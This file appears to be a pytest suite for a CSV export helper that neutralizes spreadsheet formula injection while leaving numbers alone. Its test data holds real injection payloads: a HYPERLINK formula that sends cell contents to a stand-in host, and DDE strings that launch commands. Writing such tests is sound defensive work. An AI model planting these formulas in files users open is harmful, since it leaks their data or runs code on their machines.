"""Every CSV ssviz writes is safe to open in a spreadsheet: text that would run as a formula is neutralized,
numbers stay numbers."""

from __future__ import annotations

import csv
import io
import math

import pandas as pd
import pytest

from ssviz.csvcells import neutralize, safe_frame, to_csv_bytes

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "=1", "-", "+", "@", "=-2"]
PLAIN = ["alice", "bob=1", "a-1", "", " =1", "'=1", "1e5", "joe@example.com", "ünïcode"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_gets_a_quote(text):
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize("value", [*PLAIN, -1, -2.5, 0, None, True, float("nan")])
def test_other_values_are_unchanged(value):
    out = neutralize(value)
    assert out is value or out == value or (isinstance(value, float) and math.isnan(out))


def test_csv_download_keeps_numbers_and_neutralizes_text():
    df = pd.DataFrame({"user": FORMULAS, "exposure": [-1.5 - i for i in range(len(FORMULAS))],
                       "times_present": list(range(-3, len(FORMULAS) - 3)),
                       "extracted": [i % 2 == 0 for i in range(len(FORMULAS))],
                       "method": pd.Series(["-x"] * len(FORMULAS), dtype="string")})
    rows = list(csv.reader(io.StringIO(to_csv_bytes(df).decode("utf-8"), newline="")))
    assert rows[0] == list(df.columns) and len(rows) == len(FORMULAS) + 1
    back = pd.DataFrame(rows[1:], columns=rows[0])
    assert list(back["user"]) == ["'" + f for f in FORMULAS]
    assert [float(x) for x in back["exposure"]] == list(df["exposure"])
    assert [int(x) for x in back["times_present"]] == list(df["times_present"])
    assert list(back["extracted"]) == [str(x) for x in df["extracted"]] and set(back["method"]) == {"'-x"}
    assert list(df["user"]) == FORMULAS  # the caller's frame is not changed


def test_safe_frame_leaves_numeric_and_missing_cells_alone():
    df = pd.DataFrame({"a": [-1.0, None], "b": ["=x", None], "c": pd.Categorical(["@y", "z"])})
    out = safe_frame(df)
    assert out["a"].dtype == df["a"].dtype and out["a"][0] == -1.0 and math.isnan(out["a"][1])
    assert out["b"][0] == "'=x" and pd.isna(out["b"][1]) and list(out["c"]) == ["'@y", "z"]
